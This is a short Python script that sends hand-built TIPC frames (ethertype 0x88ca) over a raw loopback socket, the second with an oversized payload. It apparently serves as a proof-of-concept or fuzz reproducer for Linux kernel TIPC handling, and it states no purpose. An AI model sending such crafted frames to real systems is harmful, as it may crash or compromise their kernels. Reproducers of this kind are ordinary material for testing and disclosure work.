import socket, struct
def w0(user,hsz,size): return (2<<29)|(user<<25)|((hsz//4)<<21)|size
def msg(user,mtype,hsz,words,payload):
    w=[0]*(hsz//4)
    for i,v in words: w[i]=v
    w[0]|=w0(user,hsz,hsz+len(payload)); w[1]|=mtype<<29
    return b''.join(struct.pack('>I',x) for x in w)+payload
s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(('lo',0))
m = msg(0,2,40,[(3,0x1001001),(4,7),(5,8),(6,0x1001001),(7,0x1001002),(8,1000),(9,1)], b'hello'*10)
s.send(b'\0'*12+b'\x88\xca'+m)
big = msg(0,0,24,[(3,0x1001001),(4,7),(5,8)], b'z'*300)
s.send(b'\0'*12+b'\x88\xca'+big)
